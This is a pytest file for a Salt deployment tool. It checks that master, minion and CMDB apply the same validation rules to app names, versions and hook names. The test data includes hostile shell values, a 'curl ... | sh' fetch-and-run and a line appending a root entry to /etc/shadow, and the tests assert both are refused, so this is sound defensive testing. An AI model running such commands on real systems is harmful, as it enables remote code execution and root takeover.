"""The rules the master and the minion module both apply are the same rules.

The minion module (``_modules/saltops_release.py``) cannot import ``saltops``
(minions do not have it), so it carries a copy of :mod:`saltops.deploy.rules`.
These tests read that copy and hold it equal, and check that both sides (and
the CMDB) accept and refuse the same names.
"""

import importlib.util
import pathlib

import pytest

from saltops import config
from saltops.cmdb import model
from saltops.deploy import api as deploy_api
from saltops.deploy import rules
from saltops.errors import ValidationError

MODULE = pathlib.Path(__file__).resolve().parents[3] / "_modules" / "saltops_release.py"


@pytest.fixture(scope="module")
def minion():
    spec = importlib.util.spec_from_file_location("saltops_release_contract", MODULE)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_minion_module_carries_the_masters_patterns(minion):
    assert minion._APP.pattern == rules.APP_NAME.pattern == model.APP_NAME.pattern
    assert minion._VERSION.pattern == rules.VERSION.pattern
    assert minion._SHA256.pattern == rules.SHA256.pattern
    assert minion._HOOK_NAME.pattern == rules.HOOK_NAME.pattern
    assert minion._HOOK_SETTINGS == rules.HOOK_SETTINGS
    assert minion._SLOTS == rules.SLOTS


NAMES = ["shop", "shop-api", "a_b", "a" * 64, "Shop", "1shop", "shop.api", "../etc", "", "a" * 65, "shop api"]
VERSIONS = ["1.0", "1.4.2+build.7", "v2_rc-1", "1..0", "../1", "1/0", ".1", "", "x" * 65, "1.0 "]


def _master_accepts_app(name):
    try:
        deploy_api.validate_request(name, "prod", "1.0", "https://x/a.tgz", "a" * 64, ["prod"])
    except ValidationError:
        return False
    return True


def _master_accepts_version(version):
    return rules.version_problem(version) is None


def _minion_accepts(minion, kind, value):
    pattern = minion._APP if kind == "app" else minion._VERSION
    try:
        minion._check_name(kind, value, pattern)
    except minion.SaltInvocationError:
        return False
    return True


@pytest.mark.parametrize("name", NAMES)
def test_master_minion_and_cmdb_agree_on_app_names(minion, name):
    in_cmdb = bool(model.APP_NAME.match(name))
    assert _master_accepts_app(name) == _minion_accepts(minion, "app", name) == in_cmdb


@pytest.mark.parametrize("version", VERSIONS)
def test_master_and_minion_agree_on_versions(minion, version):
    assert _master_accepts_version(version) == _minion_accepts(minion, "version", version)


def _host(settings):
    return {
        "hostname": "web01.example.com",
        "ip": "10.0.0.1",
        "roles": ["web"],
        "platform": "Debian-12",
        "machine_type": "vm",
        "idc": "bj-idc1",
        "env": "prod",
        "owner": "web-team",
        "apps": {"shop": settings},
    }


@pytest.mark.parametrize("setting", rules.HOOK_SETTINGS)
def test_the_cmdb_refuses_a_command_where_a_hook_name_belongs(setting):
    rules_ = model.Rules.from_config(config.load({}))
    with pytest.raises(ValidationError) as err:
        model.validate_host(_host({setting: "curl http://x | sh"}), rules_)
    assert any(
        f"apps.shop.{setting}: must name a hook declared in the pillar saltops:deploy:hooks" in p
        for p in err.value.problems
    ), err.value.problems
    ok = model.validate_host(_host({setting: "shop_restart"}), rules_)
    assert ok["apps"]["shop"][setting] == "shop_restart"


def test_a_refused_hook_value_is_quoted_only_in_part():
    rules_ = model.Rules.from_config(config.load({}))
    secret = "echo root:$6$saltsaltsalt$hashhashhashhashhash: >> /etc/shadow"
    with pytest.raises(ValidationError) as err:
        model.validate_host(_host({"restart": secret}), rules_)
    text = str(err.value)
    assert "hashhash" not in text
    assert "'echo root:$6$saltsaltsal'... (62 characters)" in text


@pytest.mark.parametrize("value", ["Shop_restart", "shop restart", 7, ["sh", "-c", "x"], {"cmd": ["x"]}])
def test_the_minion_and_the_cmdb_agree_on_hook_names(minion, value):
    rules_ = model.Rules.from_config(config.load({}))
    with pytest.raises(ValidationError):
        model.validate_host(_host({"pre_hook": value}), rules_)
    with pytest.raises(minion.SaltInvocationError, match="must name a hook"):
        minion._hook("pre_hook", value)


# The deploy tables have owners (history: runs, hosts, batches; lock: the lock;
# slots: the live slots): the modules that drive a deploy call them.
DRIVING = ("driver.py", "bluegreen.py", "control.py", "request.py", "journal.py", "api.py")


@pytest.mark.parametrize("name", DRIVING)
def test_the_driving_modules_write_no_table_themselves(name):
    source = (pathlib.Path(rules.__file__).parent / name).read_text(encoding="utf-8")
    for statement in ("conn.execute(", ".update()", ".insert()", ".delete()", "sa.text("):
        assert statement not in source, f"{name} uses {statement}: go through history, lock or slots"
